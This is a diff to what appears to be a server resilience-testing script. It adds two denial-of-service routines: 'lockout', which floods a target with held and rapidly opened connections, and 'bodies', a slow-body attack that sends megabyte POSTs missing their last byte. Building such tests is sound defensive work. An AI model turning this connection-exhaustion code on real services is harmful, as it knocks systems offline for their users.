@@ -7,6 +7,7 @@ Every attack opens whatever it was thrown out of again, as fast as it can. It sa
 
 from __future__ import annotations
 
+import asyncio
 import json
 import re
 import sys
@@ -14,10 +15,15 @@ import time
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack, suppress
+from typing import cast
+
+import uvloop
 
 from kit.raw import CONTINUATION, PING, TEXT, RawConnection
 
 WHO = "192.0.2.66"
+ATTACKER = "127.0.0.2"
+"""The address of an attacker that comes without a proxy."""
 HELLO = b'{"type":"hello"}'
 MOST_OPEN = 300
 
@@ -212,6 +218,77 @@ def lists(address: str, match: str, going: Callable[[], bool]) -> int:
     return _asked(address, going, "POST /api/mine", body)
 
 
+def lockout(address: str, match: str, going: Callable[[], bool]) -> int:
+    """Keep 150 connections busy with requests for the page, and open 200 more a second, from one address."""
+    host, _, port = address.removeprefix("http://").partition(":")
+    count = 0
+
+    class Busy(asyncio.Protocol):
+        def __init__(self) -> None:
+            self.lost: asyncio.Future[None] = asyncio.get_running_loop().create_future()
+
+        def connection_made(self, transport: asyncio.BaseTransport) -> None:
+            self.transport = cast(asyncio.Transport, transport)
+            self.ask()
+
+        def ask(self) -> None:
+            self.transport.write(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+
+        def data_received(self, data: bytes) -> None:
+            nonlocal count
+            if data.startswith(b"HTTP/1.1 "):
+                count += 1
+                self.ask()
+
+        def connection_lost(self, exc: Exception | None) -> None:
+            if not self.lost.done():
+                self.lost.set_result(None)
+
+    async def opened(protocol: type[asyncio.Protocol]) -> tuple[asyncio.Transport, asyncio.Protocol]:
+        source = (ATTACKER, 0)
+        return await asyncio.get_running_loop().create_connection(protocol, host, int(port), local_addr=source)
+
+    async def stay() -> None:
+        while going():
+            with suppress(OSError, TimeoutError):
+                transport, busy = await opened(Busy)
+                async with asyncio.timeout(1):
+                    assert isinstance(busy, Busy)
+                    while going():
+                        await asyncio.wait([busy.lost], timeout=0.2)
+                        if busy.lost.done():
+                            break
+                transport.close()
+
+    async def come_and_go() -> None:
+        begun, openings = time.monotonic(), 0
+        while going():
+            with suppress(OSError):
+                (await opened(asyncio.Protocol))[0].close()
+            openings += 1
+            await asyncio.sleep(max(0.0, begun + openings / 200 - time.monotonic()))
+
+    async def all_at_once() -> None:
+        await asyncio.gather(*(stay() for _ in range(150)), come_and_go())
+
+    uvloop.run(all_at_once())
+    return count
+
+
+def bodies(address: str, match: str, going: Callable[[], bool]) -> int:
+    """Requests of two clients whose bodies of a megabyte lack their last byte."""
+    size = 1024 * 1024
+    with ExitStack() as opened:
+        count = 0
+        while going():
+            for number in range(64 if count < 64 else 0):
+                half = opened.enter_context(RawConnection(address, f"192.0.2.{200 + number % 2}", timeout=5))
+                about = ("Content-Type: application/json", f"Content-Length: {size}")
+                count += half.send(half.head("POST /api/replay HTTP/1.1", *about) + b" " * (size - 1))
+            time.sleep(0.05)
+        return count
+
+
 def _length(answer: bytes) -> int:
     found = re.search(rb"content-length: (\d+)", answer, re.IGNORECASE)
     return int(found[1]) if found else 0
@@ -221,13 +298,14 @@ ATTACKS: dict[str, Attack] = {
     each.__name__: each
     for each in (pings, parts, hellos, greeters, deaf, silent, halves, headers, requests, numbers, replays, lists)
 }
+AGAINST_NEWCOMERS: dict[str, Attack] = {each.__name__: each for each in (lockout, bodies)}
 
 
 def main() -> None:
     """Attack for so many seconds."""
     name, address, match, seconds = sys.argv[1:]
     end = time.monotonic() + float(seconds)
-    print(ATTACKS[name](address, match, lambda: time.monotonic() < end))
+    print((ATTACKS | AGAINST_NEWCOMERS)[name](address, match, lambda: time.monotonic() < end))
 
 
 if __name__ == "__main__":
